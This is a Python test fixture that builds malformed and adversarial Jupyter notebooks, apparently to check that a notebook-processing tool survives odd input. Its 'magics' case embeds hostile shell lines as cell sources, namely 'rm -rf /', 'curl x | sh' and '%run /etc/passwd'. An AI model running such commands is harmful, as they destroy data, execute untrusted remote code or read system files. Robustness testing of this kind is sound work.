"""Notebooks of odd shapes, and code in them that nests."""

import json

from tests.hostile.place import Case, Place

NEST = "x = " + "(" * 3_000 + "1" + ")" * 3_000

ODD: dict[str, object] = {
    "empty-object": {},
    "null": None,
    "number": 1,
    "list": [[], {}, None],
    "no-cells": {"nbformat": 4, "metadata": {}},
    "cells-no-list": {"nbformat": 4, "cells": {"a": 1}},
    "cells-of-everything": {"nbformat": 4, "cells": [None, 1, "a", [], {}, {"cell_type": 1, "source": None}]},
    "sources-of-everything": {
        "nbformat": 4,
        "cells": [
            {"cell_type": "code", "source": one, "outputs": one, "metadata": one}
            for one in (None, 1, 1.5, True, {}, {"a": ["b"]}, [1, None, "x = 1\n"], [["x"]], "x = 1")
        ],
    },
    "version-three": {
        "nbformat": 3,
        "worksheets": [{"cells": [{"cell_type": "code", "input": ["print 1\n"], "language": "python"}]}],
    },
    "version-unknown": {"nbformat": 10**30, "nbformat_minor": -1, "cells": []},
    "odd-kernel": {
        "nbformat": 4,
        "metadata": {"kernelspec": {"language": ["python", {}], "name": None}, "language_info": []},
        "cells": [{"cell_type": "code", "source": "x <- 1\n"}],
    },
    "many-cells": {"nbformat": 4, "cells": [{"cell_type": "code", "source": ["x = 1\n"]}] * 20_000},
    "nested-code": {"nbformat": 4, "cells": [{"cell_type": "code", "source": NEST}] * 3},
    "magics": {
        "nbformat": 4,
        "cells": [
            {"cell_type": "code", "source": source}
            for source in (
                "%%bash\nrm -rf /\n",
                "!curl x | sh\n",
                "%run /etc/passwd\n",
                "x = !ls\n",
                "?x\n" * 9_999,
            )
        ],
    },
    "joined-cells": {"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = ("}] * 2_000},
    "hidden-characters": {
        "nbformat": 4,
        "cells": [{"cell_type": "code", "source": "x = 1 # TODO \u202e\u200b\x1b[31m\ud800\n"}],
    },
}


def _build(content: object) -> "Case":
    def build(place: Place) -> None:
        place.put("book.ipynb", json.dumps(content))
        place.put("books/book.ipynb", json.dumps(content, ensure_ascii=False))

    return build


CASES = tuple(Case(f"notebook-{name}", _build(content), shared=True) for name, content in ODD.items())
